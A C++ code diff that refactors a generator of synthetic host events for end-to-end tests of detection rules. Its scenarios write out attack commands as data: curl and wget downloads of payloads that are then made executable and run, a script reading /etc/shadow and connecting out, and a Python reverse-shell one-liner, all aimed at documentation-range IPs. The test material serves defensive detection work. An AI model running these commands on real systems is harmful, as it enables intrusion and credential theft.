@@ -453,6 +453,30 @@ class World {
 
   // --- attacks ---
 
+  // A shell script run from `parent` (bash PATH, forked and exec'd) doing `then`, then exiting.
+  template <typename Then>
+  void Script(std::vector<std::string>& out, Host& h, const Proc& parent, const std::string& path, Then then) {
+    Proc script = Fork(h, parent);
+    out.push_back(Body(h, script, ForkEvent()));
+    Exec(script, "/usr/bin/bash", {"bash", path});
+    out.push_back(Body(h, script, ExecEvent()));
+    then(script);
+    out.push_back(Body(h, script, EndEvent()));
+  }
+
+  // A payload fetched from `server` port 80 by `fetch` (curl, wget) into `payload`, then made
+  // executable by `chmod MODE payload` (the event's mode is 755 either way).
+  void Drop(std::vector<std::string>& out, Host& h, const Proc& shell, std::vector<std::string> fetch,
+            std::string_view server, const std::string& payload, std::string_view mode) {
+    Run(out, h, shell, std::move(fetch), [&](const Proc& p) {
+      out.push_back(Body(h, p, Connect(server, 80)));
+      out.push_back(Body(h, p, FileEvent("creation", payload)));
+    });
+    Run(out, h, shell, {"/usr/bin/chmod", std::string(mode), payload},
+        [&](const Proc& p) { out.push_back(Body(h, p, FileEvent("attributes_modified", payload, R"(,"mode":"755")"))); });
+  }
+
+
   // The events of scenario number `scenario` of Scenarios() (the cases below are in its order;
   // e2e.gen checks that each fires exactly the rules listed there).
   std::vector<std::string> Attack(size_t scenario, Host& h) {
@@ -462,27 +486,19 @@ class World {
     switch (scenario) {
       case 0: {  // download-and-execute
         std::string payload = fmt::format("/tmp/upd-{}", n);
-        Run(out, h, shell, {"/usr/bin/curl", "-fsSL", "-o", payload, "http://203.0.113.7/upd"}, [&](const Proc& p) {
-          out.push_back(Body(h, p, Connect("203.0.113.7", 80)));
-          out.push_back(Body(h, p, FileEvent("creation", payload)));
-        });
-        Run(out, h, shell, {"/usr/bin/chmod", "+x", payload},
-            [&](const Proc& p) { out.push_back(Body(h, p, FileEvent("attributes_modified", payload, R"(,"mode":"755")"))); });
+        Drop(out, h, shell, {"/usr/bin/curl", "-fsSL", "-o", payload, "http://203.0.113.7/upd"}, "203.0.113.7", payload,
+             "+x");
         Run(out, h, shell, {payload}, [&](const Proc& p) { out.push_back(Body(h, p, Connect("203.0.113.7", 8443))); });
         break;
       }
-      case 1: {  // credential-theft, from a script of its own (its children are the only siblings)
-        Proc script = Fork(h, shell);
-        out.push_back(Body(h, script, ForkEvent()));
-        Exec(script, "/usr/bin/bash", {"bash", "/home/alice/.cache/sync.sh"});
-        out.push_back(Body(h, script, ExecEvent()));
-        Run(out, h, script, {"/usr/bin/python3", "/home/alice/.cache/sync.py"}, [&](const Proc& p) {
-          out.push_back(Body(h, p, FileEvent("open", "/etc/shadow")));
-          out.push_back(Body(h, p, Connect("203.0.113.9", 443)));
+      case 1:  // credential-theft, from a script of its own (its children are the only siblings)
+        Script(out, h, shell, "/home/alice/.cache/sync.sh", [&](const Proc& script) {
+          Run(out, h, script, {"/usr/bin/python3", "/home/alice/.cache/sync.py"}, [&](const Proc& p) {
+            out.push_back(Body(h, p, FileEvent("open", "/etc/shadow")));
+            out.push_back(Body(h, p, Connect("203.0.113.9", 443)));
+          });
         });
-        out.push_back(Body(h, script, EndEvent()));
         break;
-      }
       case 2:  // reverse-shell one-liner from the web application
         Run(out, h, h.app,
             {"/usr/bin/python3", "-c",
@@ -490,28 +506,19 @@ class World {
              R"(os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"]))"},
             [&](const Proc& p) { out.push_back(Body(h, p, Connect("203.0.113.5", 4444))); });
         break;
-      case 3: {  // discovery-burst: a script runs five discovery commands
-        Proc script = Fork(h, shell);
-        out.push_back(Body(h, script, ForkEvent()));
-        Exec(script, "/usr/bin/bash", {"bash", "/home/alice/.cache/recon.sh"});
-        out.push_back(Body(h, script, ExecEvent()));
-        for (const char* exe : {"/usr/bin/whoami", "/usr/bin/id", "/usr/bin/uname", "/usr/bin/hostname", "/usr/bin/ps"}) {
-          std::vector<std::string> argv{exe};
-          if (BaseName(exe) == "uname") argv.emplace_back("-a");
-          if (BaseName(exe) == "ps") argv.emplace_back("aux");
-          Run(out, h, script, std::move(argv));
-        }
-        out.push_back(Body(h, script, EndEvent()));
+      case 3:  // discovery-burst: a script runs five discovery commands
+        Script(out, h, shell, "/home/alice/.cache/recon.sh", [&](const Proc& script) {
+          for (const char* exe : {"/usr/bin/whoami", "/usr/bin/id", "/usr/bin/uname", "/usr/bin/hostname", "/usr/bin/ps"}) {
+            std::vector<std::string> argv{exe};
+            if (BaseName(exe) == "uname") argv.emplace_back("-a");
+            if (BaseName(exe) == "ps") argv.emplace_back("aux");
+            Run(out, h, script, std::move(argv));
+          }
+        });
         break;
-      }
       case 4: {  // dev-shm-dropper
         std::string payload = fmt::format("/dev/shm/kx-{}", n);
-        Run(out, h, shell, {"/usr/bin/wget", "-q", "-O", payload, "http://203.0.113.8/kx"}, [&](const Proc& p) {
-          out.push_back(Body(h, p, Connect("203.0.113.8", 80)));
-          out.push_back(Body(h, p, FileEvent("creation", payload)));
-        });
-        Run(out, h, shell, {"/usr/bin/chmod", "755", payload},
-            [&](const Proc& p) { out.push_back(Body(h, p, FileEvent("attributes_modified", payload, R"(,"mode":"755")"))); });
+        Drop(out, h, shell, {"/usr/bin/wget", "-q", "-O", payload, "http://203.0.113.8/kx"}, "203.0.113.8", payload, "755");
         Run(out, h, shell, {payload});
         break;
       }
